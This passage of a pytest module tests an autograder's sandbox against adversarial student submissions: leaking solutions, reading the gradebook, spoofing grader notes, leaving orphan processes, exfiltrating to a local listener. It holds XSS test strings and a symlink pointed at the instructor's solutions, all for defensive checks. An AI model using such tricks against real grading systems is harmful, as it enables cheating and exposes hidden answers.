        *sandbox_side(t),
        *batch_level(),
        *injection_and_leaks(),
    ]


def _some_pth() -> Path:
    found = sorted(SITE_PACKAGES.glob("*.pth"))
    assert found, f"no .pth file in {SITE_PACKAGES}"
    return found[0]


def _index(nb: nbformat.NotebookNode, grade_id: str) -> int:
    return next(i for i, c in enumerate(nb.cells) if notebooks.grade_id(c) == grade_id)


def build(attack: Attack, release_nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    nb = notebooks.replace_cell(nbformat.from_dict(release_nb), "solution", attack.answer)
    if attack.written is not None:
        nb = notebooks.replace_cell(nb, "answer", attack.written)
    placed: dict[str, int] = {}
    for n, (kind, after, source) in enumerate(attack.cells):
        make = nbformat.v4.new_code_cell if kind == "code" else nbformat.v4.new_markdown_cell
        at = _index(nb, after) + 1 + placed.get(after, 0)
        placed[after] = placed.get(after, 0) + 1
        nb.cells.insert(at, make(source, id=f"own-{n}"))
    if attack.edit is not None:
        nb = attack.edit(nb)
    return nb


def submit(root: Path, attack: Attack, release_nb: nbformat.NotebookNode) -> None:
    folder = root / "submitted" / attack.student / ASSIGNMENT
    folder.mkdir(parents=True)
    nb = build(attack, release_nb)
    if attack.files is not None:
        attack.files(folder, nb)
    else:
        notebooks.write(nb, folder / NAME)


# ---------------------------------------------------------------------------------------------
# grading the corpus


def cli(layout: Layout, *args: str, timeout: float = 1500) -> subprocess.CompletedProcess:
    return subprocess.run(
        _command(layout, *args), cwd=ROOT, env=_env(), capture_output=True, text=True,
        timeout=timeout,
    )  # fmt: skip


def _command(layout: Layout, *args: str) -> list[str]:
    return [
        sys.executable, "-m", "autograder", "--solutions", str(layout.solutions),
        "--exercises", str(layout.exercises), *args,
    ]  # fmt: skip


def _env() -> dict[str, str]:
    env = dict(os.environ)
    env["PATH"] = os.pathsep.join([str(Path(sys.executable).parent), env.get("PATH", "")])
    return env


def _ok(result: subprocess.CompletedProcess) -> str:
    return f"exit {result.returncode}\n{result.stdout[-6000:]}\n{result.stderr[-4000:]}"


def fingerprint() -> dict[str, str]:
    """What no submission may change: site-packages (sizes and times of every file, contents
    of its .pth files), torchbook/ and autograder/ (contents). Byte caches are left out."""
    found: dict[str, str] = {}
    for root in (SITE_PACKAGES, ROOT / "torchbook", ROOT / "autograder"):
        for folder, dirs, files in os.walk(root):
            dirs[:] = [d for d in dirs if d != "__pycache__"]
            for name in files:
                if name.endswith((".pyc", ".pyo")):
                    continue
                path = Path(folder) / name
                stat = path.lstat()
                if root == SITE_PACKAGES and not name.endswith(".pth") and folder != str(root):
                    found[str(path)] = f"{stat.st_size} {stat.st_mtime_ns}"
                else:
                    found[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


def _git(*args: str) -> str:
    done = subprocess.run(["git", *args], cwd=ROOT, capture_output=True, text=True)
    return done.stdout.strip() if done.returncode == 0 else ""


def _committed(path: Path) -> bool:
    """Whether the file is exactly as the repository's last commit has it."""
    if not path.is_relative_to(ROOT) or not path.exists():
        return False
    done = subprocess.run(
        ["git", "show", f"HEAD:{path.relative_to(ROOT)}"], cwd=ROOT, capture_output=True
    )
    return done.returncode == 0 and done.stdout == path.read_bytes()


def stored_cells(gradebook: Path) -> list[tuple]:
    """The gradebook's copy of the assignment: every cell's source and points."""
    with sqlite3.connect(f"file:{gradebook}?mode=ro", uri=True) as db:
        source = db.execute("select name, source, checksum, cell_type, locked from source_cell")
        graded = db.execute(
            "select b.name, g.max_score, g.cell_type from grade_cells g "
            "join base_cell b on b.id = g.id"
        )
        return [*sorted(source.fetchall()), *sorted(graded.fetchall())]


def processes_with(marker: str) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as fh:
                    if marker.encode() in fh.read():
                        found.append(int(entry))
            except OSError:
                continue
    return found


def statuses(root: Path) -> dict[str, str]:
    folder = root / grading.STATE / "status" / ASSIGNMENT
    found = {}
    for path in folder.glob("*.json"):
        try:
            found[path.stem] = json.loads(path.read_text()).get("status", "")
        except ValueError:
            continue
    return found


def all_scores(root: Path, layout: Layout, students: list[str]) -> dict[str, dict]:
    course = grading.Course(root, layout)
    found = {}
    for student in students:
        try:
            found[student] = {
                c.grade_id: c.score for c in course.scores(ASSIGNMENT, student) if c.kind == "auto"
            }
        except Exception as exc:  # not in the gradebook (the ungraded submission)
            found[student] = {"error": type(exc).__name__}
    return found


@dataclass
class Batch:
    layout: Layout
    root: Path
    proof_root: Path
    attacks: list[Attack]
    proofs: list[Attack]
    killed_after: dict[str, int]  # students graded before the kill, with their files' times
    after_resume: dict[str, int]  # the same files' times after the resumed run
    interrupted: subprocess.CompletedProcess
    resumed: subprocess.CompletedProcess
    second: subprocess.CompletedProcess
    feedback: subprocess.CompletedProcess
    export: subprocess.CompletedProcess
    proof: subprocess.CompletedProcess
    first_scores: dict[str, dict]
    second_scores: dict[str, dict]
    proof_scores: dict[str, dict]
    changed_files: list[str]
    cells_before: list[tuple]
    cells_after: list[tuple]
    messages: list[bytes]  # what reached this test's TCP listener
    orphans: dict[str, list[int]]  # processes left behind, per course
    seconds: dict[str, float]

    @property
    def by_student(self) -> dict[str, Attack]:
        return {a.student: a for a in self.attacks}


def _run_killed(layout: Layout, root: Path, log: Path) -> tuple[subprocess.CompletedProcess, dict]:
    """Start grading; kill it (its process group) once a few students are graded."""
    with log.open("w") as out:
        process = subprocess.Popen(
            [*_command(layout, "autograde", str(root), "--jobs", "2",
                       "--cell-timeout", str(CELL_TIMEOUT))],
            cwd=ROOT, env=_env(), stdout=out, stderr=subprocess.STDOUT, start_new_session=True,
        )  # fmt: skip
        deadline = time.monotonic() + 900
        while time.monotonic() < deadline and process.poll() is None:
            if sum(s == "graded" for s in statuses(root).values()) >= 4:
                break
            time.sleep(0.5)
        if process.poll() is None:
            os.killpg(process.pid, signal.SIGKILL)
        process.wait(timeout=60)
    graded = [s for s, state in statuses(root).items() if state == "graded"]
    times = {
        s: (root / "autograded" / s / ASSIGNMENT / NAME).stat().st_mtime_ns
        for s in graded
        if (root / "autograded" / s / ASSIGNMENT / NAME).exists()
    }
    done = subprocess.CompletedProcess(process.args, process.returncode, log.read_text(), "")
    return done, times


@pytest.fixture(scope="module")
def batch(tmp_path_factory) -> Batch:
    import zmq

    seconds: dict[str, float] = {}
    start = time.perf_counter()
    tmp = tmp_path_factory.mktemp("adversarial")
    layout = Layout(FIXTURE / "solutions", tmp / "exercises")
    release.generate(layout, [ASSIGNMENT], layout.exercises)
    released = notebooks.read(layout.exercises / ASSIGNMENT / NAME)
    listener = zmq.Context.instance().socket(zmq.PULL)
    port = listener.bind_to_random_port("tcp://127.0.0.1")
    root, proof_root = tmp / "course", tmp / "proof"
    main = Target(root, layout.solutions, port, f"main{uuid.uuid4().hex[:12]}")
    unconfined = Target(proof_root, layout.solutions, port, f"proof{uuid.uuid4().hex[:12]}")
    attacks, proofs = corpus(main), [a for a in corpus(unconfined) if a.proof]
    for attack in attacks:
        submit(root, attack, released)
    for attack in proofs:
        submit(proof_root, attack, released)
    grading.Course(root, layout).prepare(ASSIGNMENT)  # the gradebook, before any attack ran
    cells_before = stored_cells(main.gradebook)
    before, head = fingerprint(), _git("rev-parse", "HEAD")
    seconds["prepare"] = time.perf_counter() - start

    try:
        t = time.perf_counter()
        interrupted, killed_after = _run_killed(layout, root, tmp / "interrupted.log")
        limits = ("--jobs", "2", "--cell-timeout", str(CELL_TIMEOUT))
        resumed = cli(layout, "autograde", str(root), *limits)
        after_resume = {
            s: (root / "autograded" / s / ASSIGNMENT / NAME).stat().st_mtime_ns
            for s in killed_after
        }
        seconds["first run (killed, resumed)"] = time.perf_counter() - t
        students = [a.student for a in attacks]
        first_scores = all_scores(root, layout, students)
        t = time.perf_counter()
        second = cli(layout, "autograde", str(root), "--force", *limits)
        seconds["second run (--force)"] = time.perf_counter() - t
        second_scores = all_scores(root, layout, students)
        orphans = {"sandboxed": processes_with(f"adv-orphan-{main.token}")}
        t = time.perf_counter()
        feedback = cli(layout, "feedback", str(root))
        export = cli(layout, "export", str(root), "--output", str(tmp / "grades.csv"))
        seconds["feedback and export"] = time.perf_counter() - t
        t = time.perf_counter()
        proof = cli(layout, "autograde", str(proof_root), "--no-sandbox", *limits)
        seconds["proof run (no sandbox)"] = time.perf_counter() - t
        orphans["unsandboxed"] = processes_with(f"adv-orphan-{unconfined.token}")
        proof_scores = all_scores(proof_root, layout, [a.student for a in proofs])
        messages = []
        while listener.poll(timeout=100):
            messages.append(listener.recv())
    finally:
        orphans_started = [
            *processes_with(f"adv-orphan-{main.token}"),
            *processes_with(f"adv-orphan-{unconfined.token}"),
        ]
        for pid in orphans_started:  # the processes these attacks left behind
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        listener.close(linger=0)
    after = fingerprint()
    changed = sorted(k for k in before.keys() | after.keys() if before.get(k) != after.get(k))
    if head and _git("rev-parse", "HEAD") != head:
        # another session committed to the repository while the batch ran (a shared working
        # tree): a file now equal to its committed version was changed by that commit
        changed = [k for k in changed if not _committed(Path(k))]
    return Batch(
        layout, root, proof_root, attacks, proofs, killed_after, after_resume, interrupted,
        resumed, second,
        feedback, export, proof, first_scores, second_scores, proof_scores, changed,
        cells_before, stored_cells(main.gradebook), messages, orphans, seconds,
    )  # fmt: skip


def graded_notebook(root: Path, student: str) -> nbformat.NotebookNode:
    return notebooks.read(root / "autograded" / student / ASSIGNMENT / NAME)


def feedback_page(root: Path, student: str) -> Path:
    return root / "feedback" / student / ASSIGNMENT / NAME.replace(".ipynb", ".html")


def outputs_text(nb: nbformat.NotebookNode) -> str:
    parts = []
    for cell in nb.cells:
        for output in cell.get("outputs", []):
            parts.append(str(output.get("text", "")))
            parts.append(str(output.get("evalue", "")))
            parts.extend(str(x) for x in output.get("traceback", []))
            parts.extend(str(v) for v in output.get("data", {}).values())
    return "\n".join(parts)


def _ids(kind: str = "") -> list[str]:
    target = Target(Path("c"), Path("s"), 0, "")
    return [
        a.student for a in corpus(target)
        if not kind or (kind == "proof" and a.proof) or (kind == "fooled" and a.fooled)
    ]  # fmt: skip


def _xfail_if(finding: str) -> list:
    return [pytest.mark.xfail(strict=True, reason=f"open finding: {finding}")] if finding else []


def _params(kind: str = "", which: str | None = "finding") -> list:
    target = Target(Path("c"), Path("s"), 0, "")
    chosen = [
        a for a in corpus(target)
        if not kind or (kind == "proof" and a.proof) or (kind == "fooled" and a.fooled)
    ]  # fmt: skip
    return [
        pytest.param(a.student, id=a.student, marks=_xfail_if(getattr(a, which) if which else ""))
        for a in chosen
    ]


# ---------------------------------------------------------------------------------------------
# the batch finishes, and grading is never stopped or duplicated


def test_the_batch_finishes_every_submission_graded_once(batch):
    """Exit 1 only because one submission is ungraded on purpose; every other is graded."""
    for run in (batch.resumed, batch.second):
        assert run.returncode == 1, _ok(run)
        failed = run.stdout.split("not graded (exported as ungraded, with the reason):", 1)
        assert len(failed) == 2, _ok(run)
        listed = [line.split("/")[0].strip() for line in failed[1].splitlines() if "/tp01:" in line]
        assert listed == ["ungraded"], _ok(run)
        for attack in batch.attacks:
            rows = re.findall(rf"^{ASSIGNMENT}\s+{re.escape(attack.student)}\s", run.stdout, re.M)
            if attack.student != "ungraded":
                assert len(rows) == 1, f"{attack.student}: {len(rows)} rows\n{_ok(run)}"
    assert batch.feedback.returncode == 0, _ok(batch.feedback)
    assert batch.export.returncode == 0, _ok(batch.export)


def test_a_grader_killed_part_way_finishes_the_rest_without_duplicates(batch):
    assert batch.interrupted.returncode == -signal.SIGKILL, _ok(batch.interrupted)
    assert len(batch.killed_after) >= 4, batch.killed_after
    assert len(batch.killed_after) < len(batch.attacks), "the run finished before it was killed"
    for student, mtime in batch.killed_after.items():
        row = re.search(rf"^{ASSIGNMENT}\s+{re.escape(student)}\s.*$", batch.resumed.stdout, re.M)
        assert row and row.group(0).rstrip().endswith("earlier run"), _ok(batch.resumed)
        assert batch.after_resume[student] == mtime, f"{student} was graded twice"
    for attack in batch.attacks:
        if attack.student not in batch.killed_after:
            row = re.search(rf"^{ASSIGNMENT}\s+{re.escape(attack.student)}\s.*$", batch.resumed.stdout, re.M)  # fmt: skip
            assert row and not row.group(0).rstrip().endswith("earlier run"), _ok(batch.resumed)
    assert "earlier run" not in batch.second.stdout, "--force grades everyone again"


def test_export_lists_every_student_once_and_the_ungraded_one_as_ungraded(batch):
    with open(batch.root.parent / "grades.csv", newline="") as fh:
        rows = list(csv.DictReader(fh))
    students = sorted(r["student_id"] for r in rows)
    assert students == sorted(a.student for a in batch.attacks), students
    for row in rows:
        if row["student_id"] == "ungraded":
            assert row["status"] == "ungraded", row
            assert row["score"] == "" and row["reason"], row
        else:
            assert row["status"] == "graded", row
            assert row["score"] != "", row


def test_no_attack_left_a_process_behind_in_the_sandbox(batch):
    assert batch.orphans["sandboxed"] == []


# ---------------------------------------------------------------------------------------------
# each attack: it earns nothing, it works without the sandbox, it leaks nothing


@pytest.mark.parametrize("student", _params())
def test_each_submission_gets_its_scores_in_both_runs(batch, student):
    attack = batch.by_student[student]
    if student == "ungraded":
        assert batch.second_scores[student] == {"error": "MissingEntry"}
        return
    for run, got in (("first", batch.first_scores), ("second", batch.second_scores)):
        assert got[student] == attack.expected, f"{student} ({attack.klass}), {run} run: {got[student]}"  # fmt: skip


@pytest.mark.parametrize("student", _params("fooled"))
def test_verdict_side_attacks_fool_the_kernel_and_not_the_grader(batch, student):
    """The visible part, run in the kernel, passes for the cheat's wrong answer (the cheat
    works); the grader's verdict fails it; the plain wrong answer fails the visible part."""
    attack = batch.by_student[student]
    nb, wrong = graded_notebook(batch.root, student), graded_notebook(batch.root, "wrong")
    records = {notebooks.grade_id(c): record(c) for c in nb.cells if record(c)}
    plain = {notebooks.grade_id(c): record(c) for c in wrong.cells if record(c)}
    for test in attack.fooled:
        assert records[test]["sandboxed"], test
        assert records[test]["visible"] == "ok", f"{student}: {test} visible {records[test]}"
        assert not records[test]["passed"], f"{student}: {test} passed in the grader"
        if student != "no-torch-function":
            assert plain[test]["visible"] == "error", f"wrong: {test} visible {plain[test]}"


@pytest.mark.parametrize("student", _params("proof"))
def test_sandbox_side_attacks_work_without_the_sandbox_and_not_with_it(batch, student):
    attack = batch.by_student[student]
    unconfined = outputs_text(graded_notebook(batch.proof_root, student))
    confined = outputs_text(graded_notebook(batch.root, student))
    if student == "orphan":
        assert batch.orphans["unsandboxed"], "without the sandbox the orphan should outlive its kernel"  # fmt: skip
        assert batch.orphans["sandboxed"] == []
    elif student == "network":
        tokens = {m.decode(errors="replace") for m in batch.messages}
        assert any(t.startswith("proof") for t in tokens), tokens
        assert not any(t.startswith("main") for t in tokens), tokens
    if student != "orphan":
        assert "PROOF:" in unconfined, f"{student} did nothing without the sandbox:\n{unconfined[-2000:]}"  # fmt: skip
    assert "PROOF:" not in confined, f"{student} worked in the sandbox:\n{confined[-2000:]}"
    if attack.proof_scores is not None:
        assert batch.proof_scores[student] == attack.proof_scores, batch.proof_scores[student]
    assert "WARNING: grading WITHOUT a sandbox" in batch.proof.stderr, _ok(batch.proof)


def _snippet_lines(hidden: str) -> set[str]:
    """The lines of the driver snippets a hidden part sends to the kernel (``student.run``)."""
    found: set[str] = set()
    for node in ast.walk(ast.parse(hidden)):
        if (
            isinstance(node, ast.Call)
            and isinstance(node.func, ast.Attribute)
            and node.func.attr == "run"
            and node.args
            and isinstance(node.args[0], ast.Constant)
            and isinstance(node.args[0].value, str)
        ):
            found.update(line.strip() for line in node.args[0].value.splitlines())
    return found


def _secrets(batch: Batch) -> tuple[set[str], set[str]]:
    """Lines only instructors see that the release does not show: (solutions and hidden-test
    lines that never leave the grader, the lines of driver snippets sent to the kernel)."""
    source = notebooks.read(batch.layout.solutions / ASSIGNMENT / NAME)
    shown = json.dumps(notebooks.read(batch.layout.exercises / ASSIGNMENT / NAME))
    snippets = set().union(*(_snippet_lines(split(c.source)[1]) for c in source.cells if c.cell_type == "code"))  # fmt: skip
    kept, sent = set(), set()
    for line in notebooks.secret_lines(source, release.stubs()) | {
        line for c in source.cells for line in hidden_lines(c.source)
    }:
        line = line.strip()
        if len(line) >= 12 and line not in shown and not line.startswith("#"):
            (sent if line in snippets else kept).add(line)
    return kept, sent


def _decoded_blobs(text: str) -> str:
    found = []
    for blob in re.findall(r"[A-Za-z0-9+/=]{40,}", text):
        try:
            found.append(base64.b64decode(blob + "=" * (-len(blob) % 4)).decode("utf-8", "ignore"))
        except (binascii.Error, ValueError):
            continue
    return "\n".join(found)


def _texts(batch: Batch, student: str) -> dict[str, str]:
    """The student's feedback page (as HTML and as text) and graded notebook's outputs, with
    every long base64 run decoded and JSON escapes undone."""
    page = feedback_page(batch.root, student).read_text()
    texts = {
        "feedback": page + "\n" + html.unescape(re.sub(r"<[^>]+>", "", page)),
        "graded outputs": outputs_text(graded_notebook(batch.root, student)),
    }
    for where, text in texts.items():
        text = text + "\n" + _decoded_blobs(text)
        texts[where] = text.replace("\\n", "\n").replace('\\"', '"')
    return texts


def _own_code(attack: Attack) -> str:
    return attack.answer + "".join(c[2] for c in attack.cells)


@pytest.mark.parametrize("student", [s for s in _ids() if s != "ungraded"])
def test_nothing_leaks_into_feedback_or_graded_outputs(batch, student):
    """No solution line, no hidden-test line that stays in the grader, no gradebook."""
    kept, sent = _secrets(batch)
    assert len(kept) > 10 and sent, (kept, sent)
    own = _own_code(batch.by_student[student])
    for where, text in _texts(batch, student).items():
        leaked = sorted(line for line in kept if line in text and line not in own)
        assert not leaked, f"{student}: {where} shows {leaked[:5]}"
        assert "SQLite format 3" not in text, f"{student}: {where} shows the gradebook"
        assert "BEGIN HIDDEN TESTS" not in text, f"{student}: {where}"


def test_the_grader_quotes_no_driver_snippet_in_feedback(batch):
    """A failing driver is named by its label (F10, fixed): its lines are never shown."""
    _, sent = _secrets(batch)
    shown = {}
    for attack in batch.attacks:
        if attack.student in ("ungraded", "exfiltrate"):
            continue
        page = _texts(batch, attack.student)["feedback"]
        found = sorted(line for line in sent if line in page and line not in _own_code(attack))
        if found:
            shown[attack.student] = found
    assert not shown, shown


def test_code_sent_to_the_kernel_gives_no_answer_away(batch):
    """The calls (and driver snippets) reach the kernel, where a student's code can capture
    and show them (F7: accepted and documented in book/authoring.md); what stays in the grader
    never reaches it. (The fixture's one driver runs only for code that does not reach into
    the interpreter, so this capturing student never sees it.)"""
    kept, _ = _secrets(batch)
    texts = _texts(batch, "exfiltrate")
    assert "_autograder_wire" in texts["feedback"], "the capture works (else this proves nothing)"
    assert '"kind": "call"' in texts["feedback"]
    assert not [line for line in kept if line in texts["feedback"]]


def test_without_the_sandbox_the_leak_check_would_catch_the_gradebook(batch):
    """The check above can fail: the unsandboxed gradebook reader prints a hidden test."""
    shown = outputs_text(graded_notebook(batch.proof_root, "gradebook-read"))
    kept, _ = _secrets(batch)
    assert any(line in shown for line in kept), shown[-2000:]


def test_a_forged_wire_is_the_students_failure_not_the_graders(batch):
    """Malformed answers fail the student's cells, never 'the grader's test is broken' (F8)."""
    nb = graded_notebook(batch.root, "forged-wire")
    records = {notebooks.grade_id(c): record(c) for c in nb.cells if record(c)}
    broken = {t: r["message"][:120] for t, r in records.items() if r["author_error"]}
    assert not broken, broken
    assert "the grader's test is broken" not in batch.second.stdout


# ---------------------------------------------------------------------------------------------
# bystanders, and what no submission may change


def test_bystanders_keep_identical_grades_over_two_runs(batch):
    """Identical over the two runs (and what they should be, but for open findings)."""
    for attack in batch.attacks:
        if attack.bystander:
            first, second = batch.first_scores[attack.student], batch.second_scores[attack.student]
            assert first == second, (attack.student, first, second)
            assert attack.finding or first == attack.expected, (attack.student, first)


def test_honest_submissions_keep_full_marks_with_nothing_noted(batch):
    for student in [a.student for a in batch.attacks if a.bystander and a.student != "wrong"]:
        assert batch.second_scores[student] == FULL
        line = [x for x in batch.second.stdout.splitlines() if x.strip().startswith(f"{student}/")]
        assert not line, f"{student} got notes: {line}"


def test_the_environment_the_library_and_the_grader_are_unchanged(batch):
    assert batch.changed_files == [], batch.changed_files


def test_the_gradebooks_stored_cells_are_unchanged(batch):
    assert batch.cells_before and batch.cells_after == batch.cells_before


# ---------------------------------------------------------------------------------------------
# notes: what the grader did is said, and a student cannot say it in its place


def _notes_of(run: subprocess.CompletedProcess, student: str) -> list[str]:
    notes = run.stdout.split("\nnotes (also at the top of the feedback):", 1)
    if len(notes) < 2:
        return []
    return [
        line.strip()[len(student) + len(ASSIGNMENT) + 3:]
        for line in notes[1].splitlines()
        if line.strip().startswith(f"{student}/{ASSIGNMENT}: ")
    ]  # fmt: skip


@pytest.mark.parametrize(
    "student", [a.student for a in corpus(Target(Path("c"), Path("s"), 0, "")) if a.notes]
)
def test_what_the_grader_did_is_noted(batch, student):
    attack = batch.by_student[student]
    notes = _notes_of(batch.second, student)
    for wanted in attack.notes:
        assert any(wanted in n for n in notes), f"{student}: no note {wanted!r} in {notes}"


@pytest.mark.parametrize(
    "student",
    ["notes-cell", "notes-newline"],
)  # fmt: skip
def test_a_student_cannot_write_the_graders_notes(batch, student):
    for run in (batch.resumed, batch.second):
        notes = _notes_of(run, student)
        assert not any(re.match(r"(SPOOFED|FORGED)-NOTE", n) for n in notes), notes
        assert not any(re.search(r"^\s*(SPOOFED|FORGED)-NOTE", x) for x in run.stdout.splitlines())
    with open(batch.root.parent / "grades.csv", newline="") as fh:
        row = next(r for r in csv.DictReader(fh) if r["student_id"] == student)
    assert "SPOOFED" not in row["reason"] and "\n" not in row["reason"], row
    nb = graded_notebook(batch.root, student)
    spoof = [c for c in nb.cells if "SPOOFED-NOTE" in c.source]
    assert all(not c.id.startswith("autograder-notes") for c in spoof), [c.id for c in spoof]


def test_the_runs_notes_reach_the_feedback(batch):
    """What the command prints as 'notes (also at the top of the feedback)' is there."""
    page = html.unescape(re.sub(r"<[^>]+>", "", feedback_page(batch.root, "deaf").read_text()))
    for note in _notes_of(batch.second, "deaf"):
        assert note.split(": ", 1)[-1] in page, note


def test_terminal_escapes_and_markup_in_file_names_are_cleaned(batch):
    for run in (batch.resumed, batch.second):
        assert "\x1b" not in run.stdout + run.stderr
    notes = _notes_of(batch.second, "odd-name") + _notes_of(batch.second, "odd-extra")
    assert any("<img src=x onerror=" in n or "&lt;img" in n for n in notes), notes
    for student in ("odd-name", "odd-extra"):
        for path in (feedback_page(batch.root, student),):
            _assert_no_active_content(path.read_text(), student)


# ---------------------------------------------------------------------------------------------
# feedback: nothing of the student's runs in a browser


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, attrs))
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.scripts.append(data)


def _assert_no_active_content(page: str, who: str) -> None:
    parser = _Elements()
    parser.feed(page)
    assert not [s for s in parser.scripts if XSS in s], f"{who}: a student's script runs"
    for tag, attrs in parser.found:
        assert tag not in ("iframe", "frame", "object", "embed"), f"{who}: <{tag}> {attrs}"
        for name, value in attrs:
            value = value or ""
            assert not (name.startswith("on") and XSS in value), f"{who}: <{tag} {name}={value!r}>"
            assert name != "srcdoc", f"{who}: <{tag} srcdoc>"
            assert not value.strip().lower().startswith("javascript:"), f"{who}: {name}={value!r}"


def test_a_link_in_the_submission_leads_nowhere(batch):
    """The link points at the solutions; the grader's copy of the submission must not hold
    them (it does without a fix: that is this attack's proof), nor the kernel read them."""
    copy = batch.root / "autograded" / "symlink" / ASSIGNMENT / "answers.txt"
    assert not copy.exists() or "BEGIN SOLUTION" not in copy.read_text(errors="replace")
    assert "PROOF:" not in outputs_text(graded_notebook(batch.root, "symlink"))


def test_the_sandbox_bounds_the_files_a_kernel_creates(batch):
    """Empty files cost the machine's kernel memory, which no byte limit counts (F15)."""
    shown = outputs_text(graded_notebook(batch.root, "inodes"))
    assert "BLOCKED after" in shown and "PROOF:" not in shown, shown[-500:]


def test_collect_refuses_links_in_the_exchange(tmp_path):
    """A student's folder in the exchange's inbound whose notebook is a link to the
    instructor's source notebook is not collected (collect runs as the instructor)."""
    layout = Layout(FIXTURE / "solutions", FIXTURE / "solutions")
    inbound = tmp_path / "exchange" / "course101" / "inbound"
    folder = inbound / f"mallory+{ASSIGNMENT}+2026-11-27 10:00:00.000000 UTC+0a1b2c"
    folder.mkdir(parents=True)
    (folder / NAME).symlink_to(layout.solutions / ASSIGNMENT / NAME)
    done = cli(
        layout, "collect", str(tmp_path / "course"), ASSIGNMENT,
        "--exchange", str(tmp_path / "exchange"), "--course-id", "course101", timeout=300,
    )  # fmt: skip
    taken = tmp_path / "course" / "submitted" / "mallory" / ASSIGNMENT / NAME
    assert not taken.exists() or "BEGIN HIDDEN TESTS" not in taken.read_text(), _ok(done)


def test_html_and_javascript_never_reach_the_feedback(batch):
    page = feedback_page(batch.root, "inject").read_text()
    assert XSS in page, "the injection did not reach the feedback at all (as text it should)"
    _assert_no_active_content(page, "inject")
    raw = outputs_text(graded_notebook(batch.root, "inject"))
    assert f"<script>alert('{XSS}')</script>" in raw, "the check can fail: the raw outputs have it"


def test_run_times(batch):
    """Not a check: the time of each phase, for the report (pytest -s shows it)."""
    print(json.dumps({k: round(v, 1) for k, v in batch.seconds.items()}, indent=1))


def test_what_graded_code_may_not_read(tmp_path):
    """The course, the solutions, the repository's history and the JupyterHub exchange (the
    folders a sandboxed kernel never sees; listed so that one inside what it sees is hidden)."""
    course = grading.Course(tmp_path / "course", Layout())
    paths = course.protected_paths
    assert (tmp_path / "course").resolve() in paths
    assert (ROOT / "solutions").resolve() in paths
    assert Path(grading.DEFAULT_EXCHANGE) in paths
    if (ROOT / ".git").exists():
        assert ROOT / ".git" in paths
